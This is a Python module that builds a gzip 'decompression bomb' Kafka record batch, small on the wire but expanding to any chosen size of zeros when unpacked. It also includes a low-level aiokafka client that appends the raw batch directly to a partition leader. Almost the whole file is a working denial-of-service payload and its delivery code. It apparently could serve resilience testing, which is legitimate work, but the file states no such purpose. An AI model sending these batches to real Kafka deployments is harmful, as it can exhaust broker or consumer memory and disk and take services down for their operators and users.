"""Batches that are small on the wire and large when unpacked, and a client that writes them."""

import struct
import time
import zlib
from collections.abc import Mapping
from typing import Any

from aiokafka import TopicPartition
from aiokafka.client import AIOKafkaClient
from aiokafka.protocol.produce import ProduceRequest
from aiokafka.record.util import calc_crc32c, encode_varint_py

GZIP = 1
CHUNK = bytes(1024 * 1024)
TIMEOUT_MS = 30_000


def bomb(size: int) -> bytes:
    """A batch with one record of that many zeros, compressed with gzip."""
    head = b"\0" + _varint(0) + _varint(0) + _varint(4) + b"GD-1" + _varint(size)
    tail = _varint(0)
    packer = zlib.compressobj(9, zlib.DEFLATED, zlib.MAX_WBITS | 16)
    packed = [packer.compress(_varint(len(head) + size + len(tail)) + head)]
    packed += [packer.compress(CHUNK) for _ in range(size // len(CHUNK))]
    packed += [packer.compress(bytes(size % len(CHUNK)) + tail), packer.flush()]
    now = int(time.time() * 1000)
    records = struct.pack(">hiqqqhii", GZIP, 0, now, now, -1, -1, -1, 1) + b"".join(packed)
    body = struct.pack(">ibI", -1, 2, calc_crc32c(records)) + records
    return struct.pack(">qi", 0, len(body)) + body


async def write(options: Mapping[str, Any], at: TopicPartition, batch: bytes) -> int:
    """Append the batch as it is; return Kafka's error code, 0 for success."""
    client = AIOKafkaClient(**options)
    await client.bootstrap()
    try:
        await client._wait_on_metadata(at.topic)
        node = client.cluster.leader_for_partition(at)
        partitions = [(at.partition, batch)]
        request = ProduceRequest(None, -1, TIMEOUT_MS, [(at.topic, partitions)])
        answer = await client.send(node, request)
    finally:
        await client.close()
    code: int = answer.topics[0][1][0][1]
    return code


def _varint(number: int) -> bytes:
    written = bytearray()
    encode_varint_py(number, written.append)
    return bytes(written)
